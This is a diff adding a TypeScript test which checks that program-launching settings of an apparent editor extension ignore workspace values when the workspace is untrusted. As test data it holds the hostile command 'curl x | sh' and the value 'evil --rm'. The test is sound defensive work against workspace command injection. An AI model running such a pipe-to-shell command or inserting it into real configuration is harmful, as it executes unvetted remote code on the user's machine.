@@ -19,3 +19,17 @@ test('nothing set sends nothing', () => {
   assert.deepEqual(explicitSettings(SERVER_SETTINGS, () => undefined), {});
   assert.deepEqual(explicitSettings(['user'], () => ({ globalValue: '' })), { user: '' });
 });
+
+test('untrusted: the settings that start programs come only from the user', () => {
+  const set: Record<string, Inspected> = {
+    'run.agent': { globalValue: 'aider', workspaceValue: 'evil --rm' },
+    'run.test': { workspaceFolderValue: 'curl x | sh' },
+    'run.retries': { workspaceValue: 1 },
+  };
+  assert.deepEqual(explicitSettings(SERVER_SETTINGS, (k) => set[k], false), {
+    run: { agent: 'aider', retries: 1 }, workspaceTrusted: false,
+  });
+  assert.deepEqual(explicitSettings(SERVER_SETTINGS, (k) => set[k], true), {
+    run: { agent: 'evil --rm', test: 'curl x | sh', retries: 1 },
+  });
+});
